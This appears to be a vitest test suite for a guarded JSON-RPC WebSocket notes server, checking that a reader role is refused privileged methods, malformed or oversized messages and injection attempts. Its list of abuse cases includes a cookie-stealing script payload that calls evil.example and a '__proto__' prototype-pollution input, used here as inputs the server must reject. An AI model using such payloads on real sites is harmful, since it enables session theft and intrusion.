import { describe, expect, it } from "vitest";
import { hostsOfLibraries } from "../hosts/guarded-server.ts";
import { abuses, endingOf, unrefused } from "./guarded-application.ts";
import { guardNotes, openRpc } from "./json-rpc-application.ts";

const call = (method: string, params: unknown = {}, id: unknown = 1): Readonly<Record<string, unknown>> => ({
  jsonrpc: "2.0",
  id,
  method,
  params,
});

/** What somebody who may only read sends by hand, and how that ends. */
const refused = abuses({
  "a method that the policy does not know": ["permission.message", 4503, [call("notes.drop")]],
  "a method of authors": ["permission.message", 4503, [call("notes.add", { title: "a", text: "b" })]],
  "a method of admins": ["permission.message", 4503, [call("admin.clear")]],
  "a method of admins as a notification": [
    "permission.message",
    4503,
    [{ jsonrpc: "2.0", method: "admin.clear" }],
  ],
  "a method of admins in the middle of a batch": [
    "permission.message",
    4503,
    [[call("notes.list"), call("admin.clear", {}, 2), call("notes.list", {}, 3)]],
  ],
  "an answer that nobody waits for": ["permission.message", 4503, [{ jsonrpc: "2.0", id: 7, result: {} }]],
  "a parameter of another type": ["messageSchema.mismatch", 4522, [call("notes.search", { text: 7 })]],
  "a parameter that is missing": ["messageSchema.mismatch", 4522, [call("notes.search")]],
  "a parameter too many": [
    "messageSchema.mismatch",
    4522,
    [call("notes.search", { text: "door", sort: "title" })],
  ],
  "parameters in a list": ["messageSchema.mismatch", 4522, [call("notes.search", ["door"])]],
  "a name that reaches the prototype": [
    "threat.hygiene",
    4522,
    ['{"jsonrpc":"2.0","id":1,"method":"notes.search","params":{"text":"a","__proto__":{"sort":"title"}}}'],
  ],
  "a number that no double holds": [
    "threat.hygiene",
    4522,
    ['{"jsonrpc":"2.0","id":1,"method":"notes.search","params":{"text":1e999}}'],
  ],
  "script in a text": [
    "threat.signature",
    4522,
    [call("notes.search", { text: "<script>fetch('//evil.example/' + document.cookie)</script>" })],
  ],
  "a batch of a thousand": [
    "dialect.limit",
    4522,
    [Array.from({ length: 1000 }, (_, id) => call("notes.list", {}, id))],
  ],
  "the id of a call that is not answered": [
    "dialect.syntax",
    4522,
    [[call("notes.list"), call("notes.list")]],
  ],
  "two methods in one call": [
    "dialect.syntax",
    4522,
    ['{"jsonrpc":"2.0","id":1,"method":"notes.list","method":"admin.clear"}'],
  ],
  "a method in another case": ["dialect.syntax", 4522, [{ ...call("notes.list"), Method: "admin.clear" }]],
  "an older version of the protocol": ["dialect.syntax", 4522, [{ id: 1, method: "notes.list", params: [] }]],
  "an empty batch": ["dialect.syntax", 4522, [[]]],
  "what is no JSON": ["dialect.syntax", 4522, ["notes.list()"]],
  bytes: ["messageSize.opcode", 1003, [Buffer.from(JSON.stringify(call("notes.list")))]],
  "more than 64 KiB": ["messageSize.bytes", 1009, [call("notes.search", { text: "x".repeat(70_000) })]],
});

describe.each(hostsOfLibraries)("a JSON-RPC server with its policy, through the host `%s`", (host) => {
  it("carries calls of both sides, notifications and batches", async () => {
    const notes = await guardNotes(host);
    await unrefused(notes, async () => {
      const { peer: ada } = await openRpc(notes, await notes.bearer("ada", { role: "author" }));
      const { peer: ben, socket } = await openRpc(notes, await notes.bearer("ben", { role: "reader" }));
      expect(socket.extensions).toContain("permessage-deflate");
      const changed = new Promise((resolve) => ben.addMethod("notes.changed", resolve));
      expect(await ben.request("notes.watch", {})).toBe(true);
      expect(await ada.request("notes.add", { title: "door", text: "It squeaks." })).toBe(1);
      expect(await changed).toEqual({ count: 1 });

      ben.notify("client.seen", { title: "door" });
      const batch = ["notes.list", "whatTime"].map((method, index) => ({
        jsonrpc: "2.0" as const,
        id: `of a batch ${index}`,
        method,
      }));
      const answers = await ben.requestAdvanced(batch);
      expect(answers).toMatchObject([
        { result: [{ title: "door", text: "It squeaks." }] },
        { result: "noon" },
      ]);
      const { peer: cy } = await openRpc(notes, await notes.bearer("cy", { role: "admin" }));
      expect(await cy.request("admin.clear", {})).toBe(1);
      socket.close();
      await notes.seen("closed");
    });
  });

  it.each(refused)("refuses $abuse: $code, $close", async ({ code, close, messages }) => {
    const notes = await guardNotes(host);
    const { socket } = await openRpc(notes, await notes.bearer("mallory", { role: "reader" }));
    expect(await endingOf(notes, socket, messages)).toEqual({ code, close });
  });

  it("refuses a forty-first call that waits for its answer: dialect.operations, 1008", async () => {
    const notes = await guardNotes(host);
    const { peer, socket } = await openRpc(notes, await notes.bearer("mallory"));
    peer.removeMethod("client.time");
    peer.addMethod("client.time", () => new Promise(() => undefined));
    const calls = Array.from({ length: 41 }, (_, id) => call("whatTime", {}, id));
    expect(await endingOf(notes, socket, calls)).toEqual({ code: "dialect.operations", close: 1008 });
  });

  it("hides where the server failed in an error: leak.redacted", async () => {
    const notes = await guardNotes(host);
    const { peer } = await openRpc(notes, await notes.bearer("ada", { role: "reader" }));
    const error = await peer.request("notes.search", { text: "door" }).then(
      () => null,
      (cause: unknown) => String(cause),
    );
    expect(error).toContain("no index");
    expect(error).not.toContain(import.meta.dirname);
    expect(notes.refusals()).toEqual(["leak.redacted"]);
  });
});
